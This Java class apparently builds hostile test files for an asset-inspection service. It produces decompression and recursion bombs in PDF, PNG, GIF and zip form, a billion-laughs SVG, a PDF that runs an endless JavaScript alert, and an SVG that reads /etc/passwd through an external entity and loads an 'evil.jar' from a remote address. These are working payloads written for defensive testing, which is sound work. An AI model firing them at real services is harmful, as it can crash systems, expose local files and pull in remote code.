package vn.lantoa.asset.inspection;

import java.io.ByteArrayOutputStream;
import java.io.IOException;
import java.io.OutputStream;
import java.io.UncheckedIOException;
import java.nio.ByteBuffer;
import java.nio.charset.StandardCharsets;
import java.nio.file.Files;
import java.nio.file.Path;
import java.util.ArrayList;
import java.util.Arrays;
import java.util.HexFormat;
import java.util.List;
import java.util.zip.CRC32;
import java.util.zip.DeflaterOutputStream;
import java.util.zip.ZipEntry;
import java.util.zip.ZipOutputStream;

/** Small files that harm programs that open them. Each is valid in its format. */
public final class HostileFiles {
    private HostileFiles() {}

    /** A few kilobytes that would take a year: thirty drawings, each using the next one four times. */
    public static Path hangingPdf(Path directory) {
        int depth = 30;
        var objects = pdfHead(stream("", bytes("/F Do")), "/XObject << /F 5 0 R >>");
        for (int i = 1; i <= depth; i++) {
            boolean last = i == depth;
            var next = last ? "" : "/XObject << /F " + (5 + i) + " 0 R >>";
            var form = "/Type /XObject /Subtype /Form /BBox [0 0 100 100] /Resources << " + next + " >> ";
            objects.add(stream(form, bytes(last ? "0 0 m" : "/F Do /F Do /F Do /F Do")));
        }
        return write(directory.resolve("hanging.pdf"), pdf(objects));
    }

    /** Half a megabyte that unpacks to one piece of text of half a gigabyte. */
    public static Path growingPdf(Path directory) {
        var content = deflated(out -> {
            out.write('(');
            repeat(out, bytes("a".repeat(1 << 16)), 1 << 13);
            out.write(bytes(") Tj"));
        });
        var objects = pdfHead(stream("/Filter /FlateDecode ", content), "");
        return write(directory.resolve("growing.pdf"), pdf(objects));
    }

    /** A picture of 1.6 billion pixels in 200 kilobytes. */
    public static Path hugePng(Path directory, int side) {
        return write(directory.resolve("huge.png"), png(side, side));
    }

    /** A picture whose header declares more than 250 million pixels; little or no data follows. */
    public static Path hugeHeader(Path directory, String format) {
        var hex =
                switch (format) {
                    case "png" -> "89504e470d0a1a0a0000000d494844527fffffff00000001080200000000000000";
                    case "gif" -> "474946383961ffffffff80000000000 0ffffff2c0000000001000100000202440100 3b";
                    case "gif-frame" -> "4749463839610100010080000000000 0ffffff2c00000000ffffffff000202440100 3b";
                    case "jpeg" ->
                        "ffd8ffe000104a46494600010100000100010000ffc0000b08ffffffff01011100ffda0008010100003f00ffd9";
                    case "webp" -> "524946461e000000574542505650385 80a00000000000000 1f4e001f4e00 56503820 00000000";
                    default ->
                        "49492a00 08000000 0300 0001 0400 01000000 204e0000 0101 0400 01000000 204e0000"
                                + "1201 0300 01000000 01000000 00000000";
                };
        return write(directory.resolve("huge"), HexFormat.of().parseHex(hex.replace(" ", "")));
    }

    /** A picture one pixel wide and a hundred thousand high. */
    public static Path thinPng(Path directory) {
        return write(directory.resolve("thin.png"), png(1, 100_000));
    }

    /** An animation of sixteen pixels a side that repeats for ever and never declares its end. */
    public static Path endlessGif(Path directory) {
        var frame = new byte[] {
            0x21,
            (byte) 0xf9,
            4,
            0,
            0,
            0,
            0,
            0,
            0x2c,
            0,
            0,
            0,
            0,
            16,
            0,
            16,
            0,
            0,
            2,
            14,
            (byte) 0x84,
            (byte) 0x8f,
            (byte) 0xa9,
            (byte) 0xcb,
            (byte) 0xed,
            0x0f,
            (byte) 0xa3,
            (byte) 0x9c,
            (byte) 0xb4,
            (byte) 0xda,
            (byte) 0x8b,
            (byte) 0xb3,
            0x3e,
            5,
            0
        };
        var gif = new ByteArrayOutputStream();
        gif.writeBytes(bytes("GIF89a"));
        gif.writeBytes(new byte[] {16, 0, 16, 0, (byte) 0x80, 0, 0, 0, 0, 0, (byte) 255, (byte) 255, (byte) 255});
        gif.writeBytes(new byte[] {0x21, (byte) 0xff, 11});
        gif.writeBytes(bytes("NETSCAPE2.0"));
        gif.writeBytes(new byte[] {3, 1, 0, 0, 0});
        for (int i = 0; i < 50_000; i++) gif.writeBytes(frame);
        return write(directory.resolve("endless.gif"), gif.toByteArray());
    }

    /** A document with this many pages, each of which runs a script on opening. */
    public static Path longPdf(Path directory, int pages) {
        var kids = new StringBuilder();
        for (int i = 0; i < pages; i++) kids.append(4 + i).append(" 0 R ");
        var objects = new ArrayList<>(List.of(
                bytes("<< /Type /Catalog /Pages 2 0 R /OpenAction 3 0 R >>"),
                bytes("<< /Type /Pages /Kids [" + kids + "] /Count " + pages + " >>"),
                bytes("<< /S /JavaScript /JS (while (true) app.alert\\(1\\)) >>")));
        for (int i = 0; i < pages; i++)
            objects.add(bytes("<< /Type /Page /Parent 2 0 R /MediaBox [0 0 100 100] /AA << /O 3 0 R >> >>"));
        return write(directory.resolve("long.pdf"), pdf(objects));
    }

    /** A zip in a zip in a zip …, sixty deep. */
    public static Path nestedZip(Path directory) {
        var inner = bytes("at the bottom");
        for (int i = 0; i < 60; i++) inner = zip("inner.zip", inner);
        return write(directory.resolve("nested.zip"), inner);
    }

    /** Half a kilobyte of drawing with entities that expand to a billion words. */
    public static Path laughingSvg(Path directory) {
        var text = new StringBuilder("<?xml version=\"1.0\"?><!DOCTYPE svg [<!ENTITY a0 \"ha ha ha \">");
        for (int i = 1; i < 12; i++)
            text.append("<!ENTITY a")
                    .append(i)
                    .append(" \"")
                    .append(("&a" + (i - 1) + ";").repeat(10))
                    .append("\">");
        text.append("]><svg xmlns=\"http://www.w3.org/2000/svg\"><text>&a11;</text></svg>");
        return write(directory.resolve("laughing.svg"), bytes(text.toString()));
    }

    /** A drawing that references files of this machine and network addresses. */
    public static Path curiousSvg(Path directory, String address) {
        var text =
                """
                <?xml version="1.0"?><!DOCTYPE svg [<!ENTITY x SYSTEM "file:///etc/passwd">]>
                <svg xmlns="http://www.w3.org/2000/svg" xmlns:xlink="http://www.w3.org/1999/xlink" \
                width="400" height="300" onload="java.lang.System.exit(9)">
                <script type="text/ecmascript">java.lang.System.exit(9)</script>
                <script type="application/java-archive" xlink:href="%1$s/evil.jar"/>
                <style>@import url(%1$s/style.css); text { font-family: stolen }
                @font-face { font-family: stolen; src: url(%1$s/font.ttf) }</style>
                <rect width="400" height="300" fill="green"/>
                <image xlink:href="%1$s/picture.png" width="100" height="100"/>
                <image xlink:href="file:///etc/passwd" width="100" height="100"/>
                <use xlink:href="%1$s/drawing.svg#a"/>
                <text x="20" y="50">&x;</text></svg>
                """;
        return write(directory.resolve("curious.svg"), bytes(text.formatted(address)));
    }

    private static List<byte[]> pdfHead(byte[] content, String resources) {
        var page = "<< /Type /Page /Parent 2 0 R /MediaBox [0 0 100 100] /Contents 4 0 R /Resources << " + resources
                + " >> >>";
        return new ArrayList<>(List.of(
                bytes("<< /Type /Catalog /Pages 2 0 R >>"),
                bytes("<< /Type /Pages /Kids [3 0 R] /Count 1 >>"),
                bytes(page),
                content));
    }

    private static byte[] stream(String dictionary, byte[] content) {
        var out = new ByteArrayOutputStream();
        out.writeBytes(bytes("<< " + dictionary + "/Length " + content.length + " >>\nstream\n"));
        out.writeBytes(content);
        out.writeBytes(bytes("\nendstream"));
        return out.toByteArray();
    }

    private static byte[] pdf(List<byte[]> objects) {
        var out = new ByteArrayOutputStream();
        var places = new StringBuilder("0000000000 65535 f \n");
        out.writeBytes(bytes("%PDF-1.7\n"));
        for (int i = 0; i < objects.size(); i++) {
            places.append("%010d 00000 n \n".formatted(out.size()));
            out.writeBytes(bytes((i + 1) + " 0 obj\n"));
            out.writeBytes(objects.get(i));
            out.writeBytes(bytes("\nendobj\n"));
        }
        int table = out.size();
        int size = objects.size() + 1;
        out.writeBytes(bytes("xref\n0 " + size + "\n" + places));
        out.writeBytes(bytes("trailer\n<< /Size " + size + " /Root 1 0 R >>\nstartxref\n" + table + "\n%%EOF\n"));
        return out.toByteArray();
    }

    private static byte[] png(int width, int height) {
        var lines = deflated(out -> repeat(out, new byte[(width + 7) / 8 + 1], height));
        var header = ByteBuffer.allocate(13).putInt(width).putInt(height).put(new byte[] {1, 0, 0, 0, 0});
        var png = new ByteArrayOutputStream();
        png.writeBytes(new byte[] {(byte) 0x89, 'P', 'N', 'G', '\r', '\n', 0x1a, '\n'});
        png.writeBytes(pngChunk("IHDR", header.array()));
        png.writeBytes(pngChunk("IDAT", lines));
        png.writeBytes(pngChunk("IEND", new byte[0]));
        return png.toByteArray();
    }

    private static byte[] pngChunk(String type, byte[] content) {
        var crc = new CRC32();
        crc.update(bytes(type));
        crc.update(content);
        var chunk = ByteBuffer.allocate(12 + content.length).putInt(content.length);
        return chunk.put(bytes(type)).put(content).putInt((int) crc.getValue()).array();
    }

    private static byte[] zip(String name, byte[] content) {
        return written(out -> {
            try (var zip = new ZipOutputStream(out)) {
                zip.putNextEntry(new ZipEntry(name));
                zip.write(content);
            }
        });
    }

    private static byte[] deflated(Writing writing) {
        return written(out -> {
            try (var deflater = new DeflaterOutputStream(out)) {
                writing.to(deflater);
            }
        });
    }

    private static byte[] written(Writing writing) {
        var out = new ByteArrayOutputStream();
        try {
            writing.to(out);
        } catch (IOException e) {
            throw new UncheckedIOException(e);
        }
        return out.toByteArray();
    }

    private static void repeat(OutputStream out, byte[] bytes, int times) throws IOException {
        for (int i = 0; i < times; i++) out.write(bytes);
    }

    private static byte[] bytes(String text) {
        return text.getBytes(StandardCharsets.UTF_8);
    }

    private static Path write(Path file, byte[] content) {
        try {
            return Files.write(file, Arrays.copyOf(content, content.length));
        } catch (IOException e) {
            throw new UncheckedIOException(e);
        }
    }

    private interface Writing {
        void to(OutputStream out) throws IOException;
    }
}
